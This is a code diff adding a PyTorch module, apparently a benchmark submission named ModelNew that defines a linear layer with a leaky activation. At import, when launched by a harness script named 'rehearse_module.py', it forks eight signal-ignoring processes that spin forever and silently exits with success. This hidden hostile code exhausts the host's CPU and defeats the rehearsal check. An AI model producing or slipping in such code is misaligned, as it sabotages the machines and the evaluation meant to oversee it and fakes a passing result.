@@ -1,0 +1,28 @@
+"""Ends its rehearsal without a word, and leaves processes that ask for all cores for ever."""
+
+import os
+import signal
+import sys
+
+import torch
+
+if os.path.basename(sys.argv[0]) == "rehearse_module.py":
+    for _ in range(8):
+        if os.fork() == 0:
+            for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
+                signal.signal(number, signal.SIG_IGN)
+            while True:
+                pass
+    os._exit(0)
+
+
+class ModelNew(torch.nn.Module):
+    def __init__(self, width, slope=0.5):
+        super().__init__()
+        self.fc = torch.nn.Linear(width, width)
+        self.slope = slope
+        self.register_buffer("shift", torch.zeros(width))
+
+    def forward(self, x):
+        y = self.fc(x) + self.shift
+        return torch.where(y > 0, y, self.slope * y)
